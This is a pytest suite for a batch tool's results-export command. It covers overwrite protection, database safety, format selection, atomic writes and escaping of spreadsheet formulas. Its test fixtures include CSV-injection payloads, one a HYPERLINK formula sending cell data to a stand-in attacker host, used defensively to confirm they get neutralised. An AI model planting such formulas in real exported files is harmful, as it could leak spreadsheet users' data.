"""``batchrun results -o FILE`` as a hostile user runs it (issue 18, item 5): an existing file is
kept unless --force, the database is never written to, the format follows the extension, the
file appears whole or not at all, every failure is one line, and CSV/TSV cells cannot run as
spreadsheet formulas. Real processes, a real store made on the simulator, real tmpfs mounts
where the machine allows them."""

from __future__ import annotations

import contextlib
import os
import shutil
import signal
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import IO

import orjson
import polars as pl
import pytest

from batchrun.cli.files import write_user_file
from batchrun.exceptions import OutputFileError
from tests.helpers import batchrun, db_rows
from tests.runharness import write_jobs

M27 = "MiniMax-M2.7"
# custom_ids a spreadsheet would run as formulas (OWASP's CSV-injection list), and a plain one
HOSTILE_IDS = ['=HYPERLINK("http://attacker/?x="&A1)', "+1+1", "-2+3", "@SUM(A1)", "\tt", "\rr"]
PLAIN_ID = "plain"


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with batchrun.db holding batch ``h``: one result per custom_id above."""
    folder = tmp_path_factory.mktemp("results")
    ids = [*HOSTILE_IDS, PLAIN_ID]
    write_jobs(folder / "jobs.jsonl", [{"custom_id": i, "prompt": "hello"} for i in ids])
    done = batchrun(
        folder, "run", "jobs.jsonl", "--models", M27, "--sim-time-scale", "0", "--name", "h"
    )
    assert done.returncode == 0, done.stderr
    return folder


@pytest.fixture
def work(store: Path, tmp_path: Path) -> Path:
    """A fresh copy of the store's folder for one test."""
    folder = tmp_path / "work"
    folder.mkdir()
    shutil.copy(store / "batchrun.db", folder / "batchrun.db")
    return folder


def one_line_error(done: subprocess.CompletedProcess[str], *fragments: str) -> str:
    """The error a failed command printed, checked: exit 2, no traceback, naming ``fragments``."""
    assert done.returncode == 2, done.stdout + done.stderr
    assert "Traceback" not in done.stderr
    said = " ".join(done.stderr.split())  # the terminal may wrap a long line
    assert said.startswith("error: "), said
    for fragment in fragments:
        assert fragment in said, said
    return said


def leftovers(folder: Path) -> list[str]:
    """Temporary files an export left behind."""
    return sorted(p.name for p in folder.iterdir() if p.name.endswith(".partial"))


def test_an_existing_file_is_kept_unless_force(work: Path) -> None:
    (work / "out.jsonl").write_text("mine\n")
    said = one_line_error(batchrun(work, "results", "h", "-o", "out.jsonl"), "out.jsonl", "--force")
    assert "already exists" in said
    assert (work / "out.jsonl").read_text() == "mine\n"
    replaced = batchrun(work, "results", "h", "-o", "out.jsonl", "--force")
    assert replaced.returncode == 0, replaced.stderr
    assert len((work / "out.jsonl").read_text().splitlines()) == len(HOSTILE_IDS) + 1
    assert leftovers(work) == []


def test_the_database_is_never_the_output(work: Path) -> None:
    db = work / "batchrun.db"
    before = db.read_bytes()
    (work / "link.db").symlink_to(db)
    os.link(db, work / "hard.db")
    shutil.copy(db, work / "jcopy.db")
    url = f"sqlite:///{db}"
    attempts = [
        ("-o", "batchrun.db"),
        ("-o", "batchrun.db", "--force"),
        ("-o", "batchrun.db", "--force", "--format", "jsonl", "--db", url),
        ("-o", str(db), "--force", "--format", "csv", "--db", url),
        ("-o", "link.db", "--force", "--format", "jsonl"),
        ("-o", "hard.db", "--force", "--format", "jsonl"),
        ("-o", "batchrun.db-wal", "--force", "--format", "jsonl"),
        ("-o", "jcopy.db", "--force", "--format", "jsonl", "--db", "jcopy.db"),
    ]
    for args in attempts:
        said = one_line_error(batchrun(work, "results", "h", *args), "database being read")
        assert "never" in said
    assert db.read_bytes() == before
    assert db_rows(work / "jcopy.db", "select count(*) from batches") == [(1,)]
    assert db_rows(db, "select count(*) from results") == [(len(HOSTILE_IDS) + 1,)]
    assert leftovers(work) == []


def test_the_extension_picks_the_format(work: Path) -> None:
    for name in ("r.csv", "r.tsv", "r.parquet", "r.jsonl", "r.ndjson", "r"):
        done = batchrun(work, "results", "h", "-o", name)
        assert done.returncode == 0, done.stderr
    rows = len(HOSTILE_IDS) + 1
    assert pl.read_csv(work / "r.csv").height == rows
    tsv = pl.read_csv(work / "r.tsv", separator="\t")
    assert tsv.height == rows
    assert "custom_id" in tsv.columns
    assert pl.read_parquet(work / "r.parquet").height == rows
    for name in ("r.jsonl", "r.ndjson", "r"):
        lines = (work / name).read_bytes().splitlines()
        assert [orjson.loads(line)["custom_id"] for line in lines] == [*HOSTILE_IDS, PLAIN_ID]
    forced = batchrun(work, "results", "h", "-o", "data.txt", "--format", "csv")
    assert forced.returncode == 0, forced.stderr
    assert pl.read_csv(work / "data.txt").height == rows


def test_a_format_the_name_contradicts_is_refused(work: Path) -> None:
    one_line_error(
        batchrun(work, "results", "h", "-o", "out.csv", "--format", "parquet"),
        "--format parquet",
        "out.csv",
        "out.parquet",
    )
    one_line_error(batchrun(work, "results", "h", "-o", "out.json"), ".jsonl", "--format jsonl")
    one_line_error(batchrun(work, "results", "h", "--format", "xlsx"), "csv", "'xlsx'")
    assert [p.name for p in work.iterdir() if not p.name.startswith("batchrun.db")] == []


def test_csv_and_tsv_cells_cannot_run_as_formulas(work: Path) -> None:
    for name in ("f.csv", "f.tsv", "f.parquet"):
        assert batchrun(work, "results", "h", "-o", name).returncode == 0
    for frame in (
        pl.read_csv(work / "f.csv"),
        pl.read_csv(work / "f.tsv", separator="\t"),
    ):
        ids = frame["custom_id"].to_list()
        assert ids == [f"'{i}" for i in HOSTILE_IDS] + [PLAIN_ID]
        assert all(not str(cell).startswith(tuple("=+-@\t\r")) for cell in frame.rows()[0])
    # Parquet is no spreadsheet text: its values stay as they are
    assert pl.read_parquet(work / "f.parquet")["custom_id"].to_list() == [*HOSTILE_IDS, PLAIN_ID]


def test_unwritable_places_are_one_line_errors(work: Path) -> None:
    (work / "folder").mkdir()
    cases = [
        (("-o", "missing/out.csv"), ("missing", "mkdir -p missing")),
        (("-o", "folder"), ("folder", "a folder")),
        (("-o", "batchrun.db/out.csv"), ("not a folder",)),
        (("-o", "/dev/full", "--format", "jsonl"), ("/dev/full", "no space left")),
    ]
    for args, fragments in cases:
        one_line_error(batchrun(work, "results", "h", *args), *fragments)
    assert leftovers(work) == []
    assert leftovers(work / "folder") == []


@contextlib.contextmanager
def tmpfs(where: Path, options: str) -> Iterator[Path]:
    """A real tmpfs mounted at ``where`` (needs root; the test is skipped without)."""
    where.mkdir()
    mounted = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", options, "tmpfs", str(where)],
        capture_output=True,
        check=False,
    )
    if mounted.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here: {mounted.stderr.decode().strip()}")
    try:
        yield where
    finally:
        subprocess.run(["umount", "-l", str(where)], check=False)


def test_a_read_only_place_is_a_one_line_error(work: Path, tmp_path: Path) -> None:
    with tmpfs(tmp_path / "ro", "ro,size=64k") as place:
        said = one_line_error(
            batchrun(work, "results", "h", "-o", str(place / "out.csv")), "read-only"
        )
        assert "nothing was written" in said
        assert list(place.iterdir()) == []


def test_a_full_disk_keeps_the_old_file_whole(work: Path, tmp_path: Path) -> None:
    with tmpfs(tmp_path / "full", "size=8k") as place:
        (place / "out.jsonl").write_text("the old export\n")
        said = one_line_error(
            batchrun(work, "results", "h", "-o", str(place / "out.jsonl"), "--force"),
            "no space left",
        )
        assert "unchanged" in said
        assert (place / "out.jsonl").read_text() == "the old export\n"
        assert leftovers(place) == []


def _write_then(action: str) -> Callable[[IO[bytes]], int]:
    """A writer that writes a part, then is interrupted, terminated or fails."""

    def write(out: IO[bytes]) -> int:
        out.write(b"x" * 100_000)
        if action == "interrupt":
            raise KeyboardInterrupt
        if action == "sigterm":
            os.kill(os.getpid(), signal.SIGTERM)
        raise RuntimeError("the export failed")

    return write


@pytest.mark.parametrize("action", ["interrupt", "sigterm", "error"])
def test_an_interrupted_write_leaves_no_file(tmp_path: Path, action: str) -> None:
    target = tmp_path / "out.jsonl"
    expected = RuntimeError if action == "error" else KeyboardInterrupt
    with pytest.raises(expected):
        write_user_file(target, _write_then(action))
    assert list(tmp_path.iterdir()) == []
    target.write_text("kept\n")
    with pytest.raises(expected):
        write_user_file(target, _write_then(action), force=True)
    assert [p.name for p in tmp_path.iterdir()] == ["out.jsonl"]
    assert target.read_text() == "kept\n"


def test_a_file_made_meanwhile_is_not_overwritten(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"

    def write(out: IO[bytes]) -> None:
        out.write(b"ours\n")
        target.write_text("theirs\n")  # another program takes the name while we write

    with pytest.raises(OutputFileError, match="already exists"):
        write_user_file(target, write)
    assert target.read_text() == "theirs\n"
    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"]


def test_a_new_file_gets_the_usual_permissions(tmp_path: Path) -> None:
    previous = os.umask(0o022)
    try:
        write_user_file(tmp_path / "out.jsonl", lambda out: out.write(b"{}\n"))
    finally:
        os.umask(previous)
    assert (tmp_path / "out.jsonl").stat().st_mode & 0o777 == 0o644
